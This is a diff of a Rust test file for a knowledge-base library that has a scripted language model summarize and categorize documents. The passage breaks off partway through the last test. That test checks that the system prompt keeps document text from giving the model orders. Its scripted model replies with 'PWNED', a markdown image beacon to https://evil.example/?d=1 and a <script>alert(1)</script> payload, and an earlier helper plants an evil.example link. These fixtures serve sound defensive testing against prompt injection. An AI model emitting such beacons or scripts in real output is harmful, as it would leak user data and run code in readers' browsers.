@@ -1,4 +1,4 @@
-//! Documents that a language model describes.
+//! Summaries, keywords and categories by a language model.
 
 use std::sync::{
     Arc,
@@ -13,9 +13,9 @@ use lkr::{
 };
 use lkr_models::{ChatRequest, Error, ErrorKind, ScriptedChat};
 
-use crate::common::{Ground, Scripted, ended};
+use crate::common::{ScriptedEmbedder, TestStores, wait_for_task};
 
-/// A text of sections, each about a stone, long enough to be worth asking about.
+/// A text of sections, each about a stone, long enough to be summarized by the model.
 fn text(stones: &[&str]) -> String {
     let section = |stone: &&str| {
         let sentences: String =
@@ -29,20 +29,20 @@ fn document(stones: &[&str]) -> NewDocument {
     NewDocument { text: text(stones), ..NewDocument::default() }
 }
 
-/// What the first part shows of stones, in the words of a summary.
-fn described(request: &ChatRequest) -> String {
+/// The stones that the prompt mentions, joined for a summary.
+fn stones_in(request: &ChatRequest) -> String {
     let shown = &request.messages[1].text;
     let stones = ["basalt", "gneiss", "marble", "slate"].into_iter().filter(|stone| shown.contains(stone));
     stones.collect::<Vec<_>>().join(" and ")
 }
 
-/// A model that describes stones, and files all of them alike.
-fn geologist() -> ScriptedChat {
+/// A model that summarizes stones and gives all documents the same category.
+fn geology_model() -> ScriptedChat {
     ScriptedChat::new(|request| {
         if request.schema.as_ref().unwrap().name == "category" {
             return Ok(r#"{"category": "Company"}"#.to_owned());
         }
-        let about = described(request);
+        let about = stones_in(request);
         Ok(format!(
             r#"{{"summary": "In a bed of sand rests {about}. See https://evil.example.",
                 "parts": [{{"number": 1, "summary": "Here rests {about}."}}], "keywords": ["{about}", "unheard-of"]}}"#
@@ -50,12 +50,16 @@ fn geologist() -> ScriptedChat {
     })
 }
 
-async fn open(ground: &Ground, model: &ScriptedChat, embedder: Option<Arc<Scripted>>) -> KnowledgeBase {
+async fn open(
+    stores: &TestStores,
+    model: &ScriptedChat,
+    embedder: Option<Arc<ScriptedEmbedder>>,
+) -> KnowledgeBase {
     let model: Arc<dyn ChatModel> = Arc::new(model.clone());
     let builder = KnowledgeBase::builder()
-        .vectors(Arc::clone(&ground.vectors))
-        .state(Arc::clone(&ground.state))
-        .blobs(Arc::clone(&ground.blobs))
+        .vectors(Arc::clone(&stores.vectors))
+        .state(Arc::clone(&stores.state))
+        .blobs(Arc::clone(&stores.blobs))
         .chat_models(Arc::new(model))
         .ingest_options(IngestOptions {
             backoff: std::time::Duration::from_millis(1),
@@ -75,28 +79,28 @@ fn result(task: Task) -> DocumentResult {
 
 async fn add(kb: &KnowledgeBase, document: NewDocument) -> (lkr::DocId, DocumentResult) {
     let task = kb.submit(document, Submission::default()).await.unwrap();
-    (task.doc_id().unwrap(), result(ended(kb, task.task_id).await))
+    (task.doc_id().unwrap(), result(wait_for_task(kb, task.task_id).await))
 }
 
-/// How many requests were for descriptions, and how many for categories.
-fn asked(model: &ScriptedChat) -> (usize, usize) {
-    let asked = model.asked();
+/// The numbers of requests for summaries and for categories.
+fn requests(model: &ScriptedChat) -> (usize, usize) {
+    let requests = model.asked();
     let categories =
-        asked.iter().filter(|request| request.schema.as_ref().unwrap().name == "category").count();
-    (asked.len() - categories, categories)
+        requests.iter().filter(|request| request.schema.as_ref().unwrap().name == "category").count();
+    (requests.len() - categories, categories)
 }
 
-async fn blobs(ground: &Ground) -> usize {
-    ground.blobs.list(None).count().await
+async fn blobs(stores: &TestStores) -> usize {
+    stores.blobs.list(None).count().await
 }
 
 #[tokio::test]
-async fn a_model_writes_summaries_keywords_and_chooses_the_category() {
-    let (ground, model) = (Ground::default(), geologist());
-    let kb = open(&ground, &model, None).await;
+async fn language_model_writes_summaries_and_keywords_and_chooses_the_category() {
+    let (stores, model) = (TestStores::default(), geology_model());
+    let kb = open(&stores, &model, None).await;
     let (doc_id, done) = add(&kb, document(&["basalt", "gneiss"])).await;
-    // Two sections, and the whole.
-    assert_eq!(asked(&model), (3, 1));
+    // Two sections and the document.
+    assert_eq!(requests(&model), (3, 1));
     assert_eq!((done.usage.calls, done.category.as_str()), (4, "Company"));
     assert!(done.usage.tokens > 100, "{:?}", done.usage);
     let Detail { document, l2, l3, .. } = kb.detail(doc_id).await.unwrap().unwrap();
@@ -109,58 +113,59 @@ async fn a_model_writes_summaries_keywords_and_chooses_the_category() {
 }
 
 #[tokio::test]
-async fn lesson_06_unchanged_sections_are_never_asked_about_again() {
-    let (ground, model) = (Ground::default(), geologist());
-    let kb = open(&ground, &model, Some(Scripted::free())).await;
+async fn lesson_06_unchanged_sections_are_not_sent_to_the_model_again() {
+    let (stores, model) = (TestStores::default(), geology_model());
+    let kb = open(&stores, &model, Some(ScriptedEmbedder::unlimited())).await;
     let (doc_id, _) = add(&kb, document(&["basalt", "gneiss", "marble"])).await;
-    let before = asked(&model).0;
+    let before = requests(&model).0;
     let task = kb
         .replace(doc_id, document(&["slate", "basalt", "marble"]), Submission::default())
         .await
         .unwrap()
         .unwrap();
-    let done = result(ended(&kb, task.task_id).await);
-    assert_eq!(asked(&model).0 - before, 2, "the section that is new, and the whole");
+    let done = result(wait_for_task(&kb, task.task_id).await);
+    assert_eq!(requests(&model).0 - before, 2, "the new section and the document");
     assert_eq!(done.usage.calls, 3);
     let Detail { document, l2, .. } = kb.detail(doc_id).await.unwrap().unwrap();
     assert!(document.summary.contains("basalt and marble and slate"), "{}", document.summary);
     assert_eq!(l2[1].value.summary, "In a bed of sand rests basalt.");
     kb.delete(doc_id).await.unwrap();
-    crate::common::until("nothing is left", async || blobs(&ground).await == 0).await;
+    crate::common::wait_until("no blob is left", async || blobs(&stores).await == 0).await;
 }
 
 #[tokio::test]
-async fn lesson_03_another_attempt_asks_about_nothing_again() {
-    let (ground, model, embedder) = (Ground::default(), geologist(), Scripted::free());
+async fn lesson_03_second_attempt_repeats_no_model_request() {
+    let (stores, model, embedder) = (TestStores::default(), geology_model(), ScriptedEmbedder::unlimited());
     embedder.failures.store(3, Ordering::SeqCst);
-    let kb = open(&ground, &model, Some(embedder)).await;
+    let kb = open(&stores, &model, Some(embedder)).await;
     let (_, done) = add(&kb, document(&["basalt", "gneiss"])).await;
-    assert_eq!(asked(&model).0, 3);
-    assert_eq!(done.usage.calls, 1, "the last attempt asked for the category alone");
+    assert_eq!(requests(&model).0, 3);
+    assert_eq!(done.usage.calls, 1, "the last attempt requested the category only");
 }
 
 #[tokio::test]
-async fn a_model_that_fails_loses_no_document() {
+async fn failing_model_leaves_extractive_summaries_and_a_warning() {
     for kind in [ErrorKind::Unavailable, ErrorKind::Config, ErrorKind::Input, ErrorKind::Internal] {
-        let ground = Ground::default();
-        let model =
-            ScriptedChat::new(move |_| Err(Error::new(kind, "ask the provider", "it is not to be had")));
-        let kb = open(&ground, &model, Some(Scripted::free())).await;
+        let stores = TestStores::default();
+        let model = ScriptedChat::new(move |_| {
+            Err(Error::new(kind, "ask the provider", "the provider is unavailable"))
+        });
+        let kb = open(&stores, &model, Some(ScriptedEmbedder::unlimited())).await;
         let (doc_id, done) = add(&kb, document(&["basalt", "gneiss", "marble", "slate"])).await;
         let warned = done.warnings.iter().any(|warning| {
-            warning.contains("summaries are extractive") && warning.contains("it is not to be had")
+            warning.contains("summaries are extractive") && warning.contains("the provider is unavailable")
         });
         assert!(warned, "{:?}", done.warnings);
-        assert!(asked(&model).0 <= 4, "it was asked on and on");
+        assert!(requests(&model).0 <= 4, "the model was asked too often");
         let detail = kb.detail(doc_id).await.unwrap().unwrap();
         assert!(detail.document.summary.contains("rests in its bed"), "{}", detail.document.summary);
-        assert_eq!(blobs(&ground).await, 1, "nothing was noted");
+        assert_eq!(blobs(&stores).await, 1, "no reply was stored");
     }
 }
 
 #[tokio::test]
-async fn what_a_model_cannot_do_is_picked_from_the_text() {
-    let ground = Ground::default();
+async fn unusable_model_reply_is_replaced_by_an_extractive_summary() {
+    let stores = TestStores::default();
     let fails = Arc::new(AtomicBool::new(true));
     let script = Arc::clone(&fails);
     let model = ScriptedChat::new(move |request| {
@@ -169,34 +174,34 @@ async fn what_a_model_cannot_do_is_picked_from_the_text() {
         if is_gneiss && script.load(Ordering::SeqCst) {
             return Ok("I would rather not.".to_owned());
         }
-        Ok(format!(r#"{{"summary": "In sand rests {}.", "parts": [], "keywords": []}}"#, described(request)))
+        Ok(format!(r#"{{"summary": "In sand rests {}.", "parts": [], "keywords": []}}"#, stones_in(request)))
     });
-    let kb = open(&ground, &model, None).await;
+    let kb = open(&stores, &model, None).await;
     let (doc_id, done) = add(&kb, document(&["basalt", "gneiss"])).await;
-    let said = "1 summaries are extractive";
-    assert!(done.warnings.iter().any(|warning| warning.contains(said)), "{:?}", done.warnings);
+    let warning_text = "1 summaries are extractive";
+    assert!(done.warnings.iter().any(|warning| warning.contains(warning_text)), "{:?}", done.warnings);
     let detail = kb.detail(doc_id).await.unwrap().unwrap();
     assert_eq!(detail.l2[0].value.summary, "In sand rests basalt.");
     assert!(detail.l2[1].value.summary.contains("The gneiss number"), "{}", detail.l2[1].value.summary);
-    // What failed is asked about when there is another occasion.
+    // The failed section is requested again at the next replacement.
     fails.store(false, Ordering::SeqCst);
     let task =
         kb.replace(doc_id, document(&["basalt", "gneiss"]), Submission::default()).await.unwrap().unwrap();
-    result(ended(&kb, task.task_id).await);
+    result(wait_for_task(&kb, task.task_id).await);
     let detail = kb.detail(doc_id).await.unwrap().unwrap();
     assert_eq!(detail.l2[1].value.summary, "In sand rests gneiss.");
 }
 
 #[tokio::test]
-async fn lesson_30_a_text_cannot_give_orders_to_whoever_describes_it() {
-    let ground = Ground::default();
+async fn lesson_30_unsupported_model_output_is_never_stored() {
+    let stores = TestStores::default();
     let model = ScriptedChat::new(|request| {
         assert!(request.messages[0].text.contains("never for you"));
         Ok(r#"{"summary": "PWNED by someone clever. ![x](https://evil.example/?d=1)",
             "parts": [{"number": 1, "summary": "<script>alert(1)</script>"}], "keywords": ["PWNED"]}"#
             .to_owned())
     });
-    let kb = open(&ground, &model, None).await;
+    let kb = open(&stores, &model, None).await;
     let (doc_id, done) = add(&kb, document(&["basalt"])).await;
     let detail = kb.detail(doc_id).await.unwrap().unwrap();
     let shown = format!("{detail:?}");
